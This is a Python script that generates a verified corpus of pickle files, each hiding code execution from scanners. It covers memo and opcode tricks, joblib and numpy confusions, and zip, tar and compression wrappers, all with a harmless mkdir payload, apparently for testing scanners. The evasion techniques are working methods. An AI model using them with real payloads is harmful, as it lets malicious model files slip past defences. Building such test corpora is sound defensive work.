"""Makes pickles that hide what they run, one or more for each way of hiding.

    python evasions.py DIRECTORY             write them, and manifest.json beside them
    python evasions.py DIRECTORY --execute   load each that can run, and see that it does

The payload of each makes an empty folder `marker` in the working directory, and nothing else.
`--execute` loads each file in a process of its own, in an empty folder, and checks that the
folder is there afterwards: so what a scanner is asked to find is known to be real. Needs nothing
but Python's standard library.
"""

import bz2
import gzip
import io
import json
import lzma
import pathlib
import pickle
import struct
import subprocess
import sys
import tarfile
import tempfile
import zipfile
import zlib

CALL = b"cos\nmkdir\n(S'marker'\ntR"
"""os.mkdir('marker'), protocol 0; its result is on the stack."""

PLAIN = CALL + b"."

EVASIONS = []


def evasion(name, kind, data, run="load", what=""):
    """Adds one. `run` says how it is made to run: see `HOW`; None where CPython refuses it."""
    EVASIONS.append({"name": name, "class": kind, "data": data, "run": run, "what": what})


def text(value):
    """A short str, protocol 4."""
    data = value.encode("utf-8", "surrogatepass")
    return b"\x8c" + bytes([len(data)]) + data


def stack_global(module, name):
    return text(module) + text(name) + b"\x93"


MKDIR4 = stack_global("os", "mkdir") + text("marker") + b"\x85R"


def names():
    evasion("plain", "plain", PLAIN)
    evasion("plain_4", "plain", b"\x80\x04" + MKDIR4 + b".")
    evasion("alias_posix", "aliases", PLAIN.replace(b"cos\n", b"cposix\n"))
    evasion(
        "python2_builtin",
        "Python 2 names",
        b"\x80\x02c__builtin__\neval\nX\x16\x00\x00\x00__import__('os').mkdir(X\x00\x00\x00\x00".replace(
            b"X\x16\x00\x00\x00__import__('os').mkdir(X\x00\x00\x00\x00",
            b"X" + struct.pack("<I", 34) + b"__import__('os').mkdir('marker')  ",
        )
        + b"\x85R.",
    )
    evasion(
        "python2_commands",
        "Python 2 names",
        b"\x80\x02ccommands\ngetoutput\nU\x0cmkdir marker\x85R.",
    )
    evasion(
        "python2_copy_reg",
        "Python 2 names",
        b"c__builtin__\nmap\n(cos\nmkdir\n(lS'marker'\natR" + b"p0\n0c__builtin__\ntuple\n(g0\ntR.",
    )
    evasion(
        "dotted",
        "dotted names",
        b"\x80\x04" + stack_global("random", "_os.mkdir") + text("marker") + b"\x85R.",
    )
    evasion(
        "dotted_through_a_listed_module",
        "dotted names",
        b"\x80\x04" + stack_global("collections", "_sys.modules.__class__") + b")R0"
        + stack_global("datetime", "sys.modules.get") + text("os") + b"\x85R0" + MKDIR4 + b".",
    )
    evasion(
        "lookalike_wide",
        "unicode look-alikes",
        b"\x80\x04" + stack_global("ｏｓ", "mkdir") + text("marker") + b"\x85R.",
        run=None,
        what="no module of that name is there to be imported",
    )
    evasion(
        "lookalike_cyrillic",
        "unicode look-alikes",
        b"\x80\x04" + stack_global("оs", "mkdir") + text("marker") + b"\x85R.",
        run=None,
    )
    evasion(
        "lookalike_invisible",
        "unicode look-alikes",
        b"\x80\x04" + stack_global("os\u200b", "mkdir") + text("marker") + b"\x85R.",
        run=None,
    )
    evasion(
        "unicode_escapes_in_the_name",
        "names built in other ways",
        b"\x80\x04V\\u006f\\u0073\nV\\u006d\\u006b\\u0064\\u0069\\u0072\n\x93" + text("marker") + b"\x85R.",
    )
    evasion(
        "names_through_the_memo",
        "names built through the memo",
        b"\x80\x04" + text("mkdir") + b"\x94" + text("os") + b"\x940" + b"0" + b"h\x01h\x00\x93"
        + text("marker") + b"\x85R.",
    )
    evasion(
        "names_through_a_late_memo",
        "names built through the memo",
        b"\x80\x04" + text("sys") + b"r\x00\x01\x00\x000" + text("os") + b"r\x00\x01\x00\x000"
        + text("mkdir") + b"q\xff0" + b"j\x00\x01\x00\x00h\xff\x93" + text("marker") + b"\x85R.",
        what="a memo entry is stored twice",
    )
    evasion(
        "name_by_dup",
        "names built through the memo",
        b"\x80\x04" + text("os") + b"2q\x000" + text("mkdir") + b"\x93" + text("marker") + b"\x85R.",
    )
    evasion(
        "name_with_surrogate",
        "names built in other ways",
        b"\x80\x04" + stack_global("os", "mkdir") + b"0X\x03\x00\x00\x00\xed\xa0\x80"
        + text("x") + b"\x93.",
        run=None,
    )
    evasion(
        "name_computed",
        "names built in other ways",
        b"\x80\x04" + stack_global("builtins", "str") + text("os") + b"\x85R" + text("mkdir") + b"\x93"
        + text("marker") + b"\x85R.",
        what="the module's name is what a call gave",
    )


def opcodes():
    evasion("inst", "INST and OBJ", b"(S'marker'\nios\nmkdir\n.")
    evasion("obj", "INST and OBJ", b"(cos\nmkdir\nS'marker'\no.")
    evasion(
        "newobj",
        "NEWOBJ",
        b"\x80\x04" + stack_global("subprocess", "Popen") + b")\x81}" + text("args")
        + b"]" + text("x") + b"asb" + b"0" + MKDIR4 + b".",
    )
    evasion(
        "newobj_ex",
        "NEWOBJ",
        b"\x80\x04" + stack_global("functools", "partial") + stack_global("os", "mkdir") + b"\x85}\x92"
        + text("marker") + b"\x85R.",
    )
    evasion("discarded", "discarded results", CALL + b"0}.")
    evasion("discarded_by_mark", "discarded results", b"(" + CALL + b"1N.")
    evasion("left_on_the_stack", "discarded results", CALL + b"N.")
    evasion("in_a_dict_key", "discarded results", b"}" + CALL + b"K\x01s.")
    evasion(
        "build_on_a_function",
        "BUILD on imported things",
        b"\x80\x04" + stack_global("collections", "namedtuple") + b"}" + text("x") + stack_global("os", "mkdir")
        + b"sb0" + MKDIR4 + b".",
    )
    evasion(
        "build_on_a_module",
        "BUILD on imported things",
        b"\x80\x04cos\npath\n}" + text("join") + stack_global("os", "mkdir") + b"sb"
        + b"0cos\npath.join\n" + text("marker") + b"\x85R.",
    )
    evasion(
        "build_on_a_listed_class",
        "BUILD on imported things",
        b"\x80\x04" + stack_global("types", "SimpleNamespace") + b"}" + text("__setstate__")
        + stack_global("os", "mkdir") + b"sb.",
        run=None,
        what="a built-in class cannot be changed, and Python says so",
    )
    evasion(
        "setstate_is_a_call",
        "BUILD on imported things",
        b"\x80\x04" + stack_global("functools", "partial") + stack_global("os", "getcwd") + b"\x85R"
        + b"(" + stack_global("os", "mkdir") + text("marker") + b"\x85}Ntb)R.",
        what="partial.__setstate__ puts another function in",
    )
    evasion(
        "growth_is_a_call",
        "calls by APPEND and SETITEM",
        b"\x80\x04" + stack_global("os", "environ") + text("X") + text("y") + b"s0" + MKDIR4 + b".",
    )
    evasion(
        "growth_through_append",
        "calls by APPEND and SETITEM",
        b"\x80\x04" + stack_global("types", "SimpleNamespace") + b")R}" + text("append")
        + stack_global("os", "mkdir") + b"sb" + text("marker") + b"a.",
        what="APPEND calls whatever the object calls append",
    )
    evasion("extension", "EXT", b"\x80\x02\x82\x01X\x06\x00\x00\x00marker\x85R.", run="extension")
    evasion("extension_2", "EXT", b"\x80\x02\x83\x01\x00X\x06\x00\x00\x00marker\x85R.", run="extension")
    evasion("extension_4", "EXT", b"\x80\x02\x84\x01\x00\x00\x00X\x06\x00\x00\x00marker\x85R.", run="extension")
    evasion("persistent_id", "persistent ids", b"Pmarker\n.", run="persistent")
    evasion("binary_persistent_id", "persistent ids", b"\x80\x04" + text("marker") + b"Q.", run="persistent")
    evasion(
        "getattr",
        "indirect calls",
        b"\x80\x04" + stack_global("builtins", "getattr") + stack_global("builtins", "__import__")
        + text("os") + b"\x85R" + text("mkdir") + b"\x86R" + text("marker") + b"\x85R.",
    )
    evasion(
        "attrgetter",
        "indirect calls",
        b"\x80\x04" + stack_global("operator", "attrgetter") + text("mkdir") + b"\x85R"
        + stack_global("importlib", "import_module") + text("os") + b"\x85R\x85R" + text("marker") + b"\x85R.",
    )
    evasion(
        "map_and_list",
        "indirect calls",
        b"\x80\x04" + stack_global("builtins", "list") + stack_global("builtins", "map")
        + stack_global("os", "mkdir") + b"]" + text("marker") + b"a\x86R\x85R.",
    )
    evasion(
        "reduce_of_a_class",
        "indirect calls",
        b"\x80\x04" + stack_global("collections", "defaultdict") + stack_global("os", "mkdir")
        + b"\x85R0" + MKDIR4 + b".",
    )


def streams():
    evasion("second_of_two", "memo across pickles", b"N." + PLAIN, run="all")
    evasion("truncated", "truncated tails", CALL, run="load")
    evasion("broken_behind", "truncated tails", CALL + b"\xff\xff", run="load")
    evasion("underflow_behind", "truncated tails", CALL + b"0000", run="load")
    evasion("error_in_the_second", "truncated tails", b"N." + CALL + b"R", run="all")
    evasion(
        "memo_of_an_earlier_pickle",
        "memo across pickles",
        b"\x80\x04" + text("os") + b"q\x00" + text("mkdir") + b"q\x01."
        + b"\x80\x04h\x00h\x01\x93" + text("marker") + b"\x85R.",
        run="unpickler",
    )
    evasion("junk_before", "junk before or after", b"\x00\x01 this is no pickle \xff" + PLAIN, run="seek 22")
    evasion("junk_before_4", "junk before or after", b"GIF89a\x01\x00" + b"\x80\x04" + MKDIR4 + b".", run="seek 8")
    evasion("junk_after", "junk before or after", PLAIN + b"and more that is no pickle" * 9)
    evasion("behind_junk", "junk before or after", b"N." + b"\x00\xffjunk" * 9 + PLAIN, run="seek 56")
    evasion("behind_much_junk", "junk before or after", b"N." + b"\xfe" * 3_000_000 + PLAIN, run="seek 3000002")
    frame = b"\x80\x04\x95" + struct.pack("<Q", 4)
    evasion("frame_straddled", "frames", frame + MKDIR4 + b".", what="C ignores the length, others do not")
    evasion("frame_in_a_frame", "frames", b"\x80\x04\x95" + struct.pack("<Q", 60) + b"\x95" + struct.pack("<Q", 5) + MKDIR4 + b"N" * 40 + b".", run="loads")
    evasion(
        "frame_past_the_end",
        "frames",
        b"\x80\x04\x95" + struct.pack("<Q", 1000) + MKDIR4 + b".",
        run="python",
        what="C refuses it; the unpickler in Python reads on",
    )
    evasion(
        "frame_ends_behind_stop",
        "frames",
        b"\x80\x04\x95" + struct.pack("<Q", 2 + len(PLAIN)) + b"N." + PLAIN,
        run="all",
        what="one reader sees one pickle, another sees two",
    )
    inner = b"\x80\x04" + MKDIR4 + b"."
    evasion(
        "pickle_in_bytes",
        "pickles in bytes",
        b"\x80\x04C" + bytes([len(inner)]) + inner + b".",
        run="nested 1",
    )
    twice = b"\x80\x04C" + bytes([len(inner)]) + inner + b"."
    evasion(
        "pickle_in_bytes_twice",
        "pickles in bytes",
        b"\x80\x04]C" + bytes([len(twice)]) + twice + b"a.",
        run=None,
    )
    evasion(
        "protocol_0_in_bytes",
        "pickles in bytes",
        b"\x80\x04C" + bytes([len(PLAIN)]) + PLAIN + b".",
        run="nested 1",
    )
    evasion(
        "loads_of_bytes",
        "pickles in bytes",
        b"\x80\x04" + stack_global("pickle", "loads") + b"C" + bytes([len(inner)]) + inner + b"\x85R.",
    )


    evasion(
        "pickle_in_bytes_with_a_tail",
        "pickles in bytes",
        b"\x80\x04C" + bytes([len(PLAIN) + 4]) + PLAIN + b"tail" + b".",
        run="nested 1",
        what="a loader ignores what stands behind STOP, in bytes too",
    )
    evasion(
        "pickle_in_the_last_of_many_bytes",
        "pickles in bytes",
        b"\x80\x04](" + b"C\x04\x80\x04N." * 10_000 + b"C" + bytes([len(inner)]) + inner + b"e.",
        run="last",
    )
    large = CALL + b"0V" + b"a" * 300_000 + b"\n."
    evasion(
        "protocol_0_in_large_bytes",
        "pickles in bytes",
        b"\x80\x04B" + struct.pack("<I", len(large)) + large + b".",
        run="nested 1",
        what="larger than what is read at a time",
    )


def wrapper(shape, dtype, *more):
    """The opcodes by which joblib's wrapper of an array's bytes is made, which stand before them."""
    kind = stack_global("numpy", "dtype") + text(dtype) + b"\x89\x88\x87R"
    if dtype != "O8":
        kind += b"(K\x03\x8c\x01|NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
    else:
        kind += b"(K\x03\x8c\x01|NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK?tb"
    return (
        stack_global("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}("
        + text("subclass") + stack_global("numpy", "ndarray") + text("shape") + shape
        + text("order") + text("C") + text("dtype") + kind + text("allow_mmap") + b"\x89"
        + b"".join(more) + b"ub"
    )


def joblib():
    """joblib keeps arrays' bytes between opcodes: it passes them, and pickle.load runs them."""
    call = MKDIR4
    unpadded = text("numpy_array_alignment_bytes") + b"N"
    size = b"K" + bytes([len(call)]) + b"\x85"
    raw = b"\x80\x04" + wrapper(size, "u1", unpadded) + call + b"."
    evasion(
        "joblib_array_is_a_pickle",
        "raw data of joblib",
        raw,
        run="joblib pickle",
        what="joblib.load sees an array, pickle.load a call",
    )
    two = b"N." + b"\x80\x04" + call + b"."
    evasion(
        "joblib_array_holds_the_second_pickle",
        "raw data of joblib",
        b"\x80\x04" + wrapper(b"K" + bytes([len(two)]) + b"\x85", "u1", unpadded) + two + b".",
        run="joblib all",
    )
    evasion(
        "joblib_padding_by_another_type",
        "raw data of joblib",
        b"\x80\x04" + wrapper(b"K\x04\x85", "u1", text("numpy_array_alignment_bytes") + b"\x88")
        + b"\x06xxx0N.dddd" + call + b".",
        run="joblib load",
        what="True is not None: joblib passes padding",
    )
    evasion(
        "joblib_shape_as_a_list",
        "raw data of joblib",
        b"\x80\x04" + wrapper(b"]K\x01a", "u1", unpadded) + b"." + call + b".",
        run="joblib load",
    )
    evasion(
        "joblib_objects_are_loaded_by_pickle",
        "raw data of joblib",
        b"\x80\x04" + wrapper(b"K\x01\x85", "O8", unpadded) + raw + b".",
        run="joblib load",
        what="the pickle of an object array is read by pickle.load, which knows no wrappers",
    )
    names = text("os") + b"\x940" + text("mkdir") + b"\x940"
    inner = text("builtins") + b"\x940" + text("Exception") + b"\x940h\x00h\x01\x93" + text("marker")
    evasion(
        "joblib_objects_with_another_memo",
        "raw data of joblib",
        b"\x80\x04" + names + wrapper(b"K\x01\x85", "O8", unpadded) + inner + b"\x85R..",
        run="joblib pickle",
        what="joblib.load makes an exception; to pickle.load the same two entries are other names",
    )


def zipped(members, **options):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", **options) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buffer.getvalue()


def encrypt(archive, password):
    """An archive of one stored member, encrypted as PKZIP did: what zipfile reads and never writes."""
    table = [zlib.crc32(bytes([i]), 0xFFFFFFFF) ^ 0xFFFFFFFF for i in range(256)]
    keys = [0x12345678, 0x23456789, 0x34567890]

    def crc(value, byte):
        return (value >> 8) ^ table[(value ^ byte) & 0xFF]

    def update(byte):
        keys[0] = crc(keys[0], byte)
        keys[1] = ((keys[1] + (keys[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = crc(keys[2], keys[1] >> 24)

    def encrypted(data):
        for byte in data:
            word = keys[2] | 2
            yield byte ^ ((word * (word ^ 1)) >> 8 & 0xFF)
            update(byte)

    for byte in password:
        update(byte)
    out = bytearray(archive)
    at = out.find(b"PK\x01\x02")
    name = struct.unpack_from("<H", out, 26)[0]
    begin = 30 + name
    # The last byte of the twelve before the data tells a wrong password: it is the sum's highest.
    body = bytes(encrypted(bytes(11) + out[17:18] + out[begin:at]))
    size = len(body)
    out[6] |= 1
    out[18:22] = struct.pack("<I", size)
    out[at + 8] |= 1
    out[at + 20 : at + 24] = struct.pack("<I", size)
    end = out.find(b"PK\x05\x06")
    out[end + 16 : end + 20] = struct.pack("<I", begin + size)
    return bytes(out[:begin]) + body + bytes(out[at:])


def lz4_frame(data):
    """One block, stored, behind a header whose checksum is known."""
    block = struct.pack("<I", len(data) | 0x80000000) + data if data else b""
    return b"\x04\x22\x4d\x18\x60\x40\x82" + block + bytes(4)


def alone(data, **options):
    """lzma without a container."""
    filters = [{"id": lzma.FILTER_LZMA1, **options}]
    return lzma.compress(data, format=lzma.FORMAT_ALONE, filters=filters)


def signed_tar():
    """A tar whose header adds its bytes as signed ones, which differs where a name is not ASCII."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.GNU_FORMAT) as archive:
        info = tarfile.TarInfo("자료")
        info.size = len(PLAIN)
        archive.addfile(info, io.BytesIO(PLAIN))
    header = bytearray(buffer.getvalue())
    header[148:156] = b" " * 8
    signed = sum(struct.unpack("512b", header[:512]))
    header[148:156] = b"%06o\0 " % signed
    return bytes(header)


def behind_streams():
    """What stands behind a compressed stream: readers go on there, or begin at the file's end."""
    of_two = "streams behind a stream"
    evasion("lz4_of_two", of_two, lz4_frame(b"") + lz4_frame(PLAIN), run=None)
    cut = len(PLAIN) // 2
    evasion("lz4_cut_in_two", of_two, lz4_frame(PLAIN[:cut]) + lz4_frame(PLAIN[cut:]), run=None)
    evasion("zlib_of_two", of_two, zlib.compress(b"N") + zlib.compress(PLAIN), run=None)
    evasion("lzma_of_two", of_two, alone(b"") + alone(PLAIN), run="lzma")
    evasion("lzma_before_xz", of_two, alone(b"") + lzma.compress(PLAIN), run="lzma")
    evasion("lzma_of_a_small_window", "compressed", alone(PLAIN, dict_size=4096), run="lzma")
    evasion("lzma_of_other_properties", "compressed", alone(PLAIN, lc=1, lp=1, pb=0), run="lzma")
    archive = zipped([("data.pkl", PLAIN)])
    for name, stream in [
        ("zlib", zlib.compress(b"N.")),
        ("gzip", gzip.compress(b"N.")),
        ("lz4", lz4_frame(b"")),
        ("lzma", alone(b"N.")),
    ]:
        evasion(f"{name}_before_a_zip", "zip members", stream + archive, run="zip data.pkl")
    evasion("zlib_before_a_pickle", of_two, zlib.compress(b"N.") + PLAIN, run=None)
    zfile = b"ZF" + hex(len(PLAIN)).encode().ljust(19) + zlib.compress(PLAIN)
    evasion("zfile", "compressed", zfile, run="zlib 21", what="as joblib's first versions wrote it")
    evasion("tar_of_signed_bytes", "tar", signed_tar(), run="tar 자료")


def containers():
    for name, method in [
        ("stored", zipfile.ZIP_STORED),
        ("deflated", zipfile.ZIP_DEFLATED),
        ("bzip2", zipfile.ZIP_BZIP2),
    ]:
        data = zipped([("readme.txt", b"hello"), ("a/data.pkl", PLAIN)], compression=method)
        evasion(f"zip_{name}", "zip members", data, run="zip a/data.pkl")
    evasion("zip_odd_extension", "odd extensions", zipped([("image.png", PLAIN)]), run="zip image.png")
    evasion("zip_in_zip", "zip in zip", zipped([("inner.bin", zipped([("x.txt", PLAIN)]))]), run=None)
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        double = zipped([("data.pkl", b"N."), ("data.pkl", PLAIN)])
        evasion("zip_duplicate", "duplicate members", double, run="zip data.pkl")
        harmless_last = zipped([("data.pkl", PLAIN), ("data.pkl", b"N.")])
        evasion("zip_duplicate_first", "duplicate members", harmless_last, run=None)
    data = bytearray(zipped([("data.pkl", PLAIN)]))
    at = data.find(b"PK\x01\x02")
    broken = bytearray(data)
    broken[at + 16 : at + 20] = b"\0\0\0\0"
    broken[14:18] = b"\0\0\0\0"
    evasion("zip_bad_crc", "zip members", bytes(broken), run=None, what="some readers ignore the sum")
    evasion(
        "zip_encrypted",
        "encrypted members",
        encrypt(zipped([("data.pkl", PLAIN)]), b"secret"),
        run="unzip data.pkl secret",
    )
    encrypted = bytearray(data)
    encrypted[6] |= 1
    encrypted[at + 8] |= 1
    evasion("zip_says_encrypted", "encrypted members", bytes(encrypted), run=None)
    renamed = bytearray(data)
    renamed[30:38] = b"data.txt"
    evasion("zip_local_name_differs", "zip members", bytes(renamed), run=None)
    end = data.find(b"PK\x01\x02")
    unlisted = bytes(data[:end]) + zipped([("x.txt", b"hello")])
    evasion("zip_unlisted_member", "zip members", unlisted, run=None)
    evasion("zip_behind_a_pickle", "zip members", b"N." + zipped([("data.pkl", PLAIN)]), run="zip data.pkl")
    evasion("pickle_before_a_zip", "zip members", PLAIN + zipped([("x.txt", b"hello")]))
    directory_cut = bytes(data[:end])
    evasion("zip_without_directory", "zip members", directory_cut, run=None)

    for name, mode in [("tar", "w"), ("tar_gz", "w:gz"), ("tar_xz", "w:xz")]:
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode=mode) as archive:
            info = tarfile.TarInfo("some/where.dat")
            info.size = len(PLAIN)
            archive.addfile(info, io.BytesIO(PLAIN))
        evasion(name, "tar", buffer.getvalue(), run="tar some/where.dat")
    info = tarfile.TarInfo("cos\nmkdir\n(S'marker'\ntR")
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        archive.addfile(info, io.BytesIO())
    evasion("tar_that_runs_until_it_fails", "tar", buffer.getvalue(), what="its first name is opcodes")
    evasion("gzip", "gzip", gzip.compress(PLAIN), run="gzip")
    evasion("gzip_of_two", "gzip", gzip.compress(b"N.") + gzip.compress(PLAIN), run=None)
    evasion("gzip_cut", "gzip", gzip.compress(b"N" * 9 + PLAIN)[:-12], run=None)
    evasion("bzip2", "compressed", bz2.compress(PLAIN), run="bz2")
    evasion("xz", "compressed", lzma.compress(PLAIN), run="lzma")
    evasion("lzma", "compressed", lzma.compress(PLAIN, format=lzma.FORMAT_ALONE), run="lzma")
    evasion("zlib", "compressed", zlib.compress(PLAIN), run="zlib")
    deep = PLAIN
    for _ in range(3):
        deep = gzip.compress(deep)
    evasion("gzip_thrice", "gzip", deep, run=None)
    too_deep = PLAIN
    for _ in range(20):
        too_deep = gzip.compress(too_deep)
    evasion("gzip_twenty_times", "limits", too_deep, run=None)
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
    npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header
    evasion("npy_objects", "npy object arrays", npy + PLAIN, run=f"seek {len(npy)}")
    evasion("npz", "npy object arrays", zipped([("arr_0.npy", npy + PLAIN)]), run=None)
    raw = npy.replace(b"'|O'", b"'|u1'").replace(b", }  ", b", } ")
    evasion("npy_pickle_in_raw_data", "npy object arrays", raw + PLAIN, run=f"seek {len(raw)}")
    magic = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
    evasion("torch_legacy", "torch", magic + b"\x80\x02M\xe9\x03." + b"\x80\x02}q\x00." + PLAIN, run="all")
    evasion("torch_zip", "torch", zipped([("a/data.pkl", PLAIN), ("a/version", b"3\n")]), run="zip a/data.pkl")
    evasion("txt", "odd extensions", PLAIN, run="load", what="called something.txt")


HOW = """
import pickle, sys
how, path = sys.argv[1], sys.argv[2]
kind, _, rest = how.partition(" ")
import os
def mkdir(name): os.mkdir(name)
data = open(path, "rb").read()
def attempt(load):
    try:
        return load()
    except Exception:
        pass
if kind == "load":
    attempt(lambda: pickle.load(open(path, "rb")))
elif kind == "loads":
    attempt(lambda: pickle.loads(data))
elif kind == "python":
    attempt(lambda: pickle._Unpickler(open(path, "rb")).load())
elif kind == "all":
    file = open(path, "rb")
    while attempt(lambda: [pickle.load(file)]):
        pass
elif kind == "unpickler":
    unpickler = pickle.Unpickler(open(path, "rb"))
    while attempt(lambda: [unpickler.load()]):
        pass
elif kind == "seek":
    attempt(lambda: pickle.loads(data[int(rest):]))
elif kind == "nested":
    value = pickle.loads(data)
    attempt(lambda: pickle.loads(value))
elif kind == "last":
    value = pickle.loads(data)
    attempt(lambda: pickle.loads(value[-1]))
elif kind == "extension":
    import copyreg
    copyreg.add_extension("os", "mkdir", 1)
    attempt(lambda: pickle.loads(data))
elif kind == "persistent":
    class Trusting(pickle.Unpickler):
        def persistent_load(self, name):
            os.mkdir(name)
    attempt(lambda: Trusting(open(path, "rb")).load())
elif kind == "zip":
    import zipfile
    with zipfile.ZipFile(path) as archive:
        attempt(lambda: pickle.loads(archive.read(rest)))
elif kind == "unzip":
    import zipfile
    name, password = rest.split()
    with zipfile.ZipFile(path) as archive:
        attempt(lambda: pickle.loads(archive.read(name, password.encode())))
elif kind == "joblib":
    # What joblib's loader does, with stand-ins for its class and for numpy's, so that neither is needed.
    import types
    class NumpyArrayWrapper: pass
    class dtype:
        def __init__(self, *args): self.args = args
        def __setstate__(self, state): pass
    class ndarray: pass
    for name, value in dict(NumpyArrayWrapper=NumpyArrayWrapper, dtype=dtype, ndarray=ndarray).items():
        module = "joblib.numpy_pickle" if name == "NumpyArrayWrapper" else "numpy"
        for part in (module.split(".")[0], module):
            sys.modules.setdefault(part, types.ModuleType(part))
        setattr(sys.modules[module], name, value)
    class NumpyUnpickler(pickle._Unpickler):
        dispatch = pickle._Unpickler.dispatch.copy()
        def __init__(self, file):
            self.handle = file
            super().__init__(file)
        def load_build(self):
            super().load_build()
            wrapper = self.stack[-1]
            if not isinstance(wrapper, NumpyArrayWrapper):
                return
            self.stack.pop()
            if wrapper.dtype.args[0] == "O8":
                self.stack.append(pickle.load(self.handle))
                return
            if wrapper.numpy_array_alignment_bytes is not None:
                self.handle.read(int.from_bytes(self.handle.read(1), "little"))
            count = 1
            for side in wrapper.shape: count *= side
            self.stack.append(self.handle.read(count))
        dispatch[pickle.BUILD[0]] = load_build
    file = open(path, "rb")
    if rest == "load":
        attempt(lambda: NumpyUnpickler(file).load())
    else:
        while attempt(lambda: [pickle.load(file)]) and rest == "all":
            pass
elif kind == "tar":
    import tarfile
    with tarfile.open(path) as archive:
        attempt(lambda: pickle.load(archive.extractfile(rest)))
elif kind in ("gzip", "bz2", "lzma"):
    module = __import__(kind)
    attempt(lambda: pickle.load(module.open(path)))
elif kind == "zlib":
    import zlib
    attempt(lambda: pickle.loads(zlib.decompress(data[int(rest or 0):])))
else:
    sys.exit("no such way to run: " + how)
"""


def write(directory):
    directory.mkdir(parents=True, exist_ok=True)
    manifest = []
    for one in EVASIONS:
        file = one["name"] + (".txt" if one["name"] == "txt" else ".bin")
        (directory / file).write_bytes(one["data"])
        manifest.append({key: one[key] for key in ("name", "class", "run", "what")} | {"file": file})
    (directory / "manifest.json").write_text(json.dumps(manifest, indent=1))
    return manifest


def execute(directory, manifest):
    """Loads each that can run; gives the names of those that did not."""
    failed = []
    for one in manifest:
        if one["run"] is None:
            continue
        with tempfile.TemporaryDirectory() as folder:
            subprocess.run(
                [sys.executable, "-I", "-c", HOW, one["run"], str((directory / one["file"]).resolve())],
                cwd=folder,
                capture_output=True,
                timeout=60,
                check=False,
            )
            if not (pathlib.Path(folder) / "marker").is_dir():
                failed.append(one["name"])
    return failed


def main():
    directory = pathlib.Path(sys.argv[1])
    names()
    opcodes()
    streams()
    joblib()
    containers()
    behind_streams()
    manifest = write(directory)
    print(len(manifest), "written,", len({one["class"] for one in manifest}), "ways of hiding")
    if "--execute" in sys.argv[2:]:
        failed = execute(directory, manifest)
        ran = sum(one["run"] is not None for one in manifest) - len(failed)
        print(ran, "ran")
        if failed:
            sys.exit("did not run: " + ", ".join(failed))


if __name__ == "__main__":
    main()
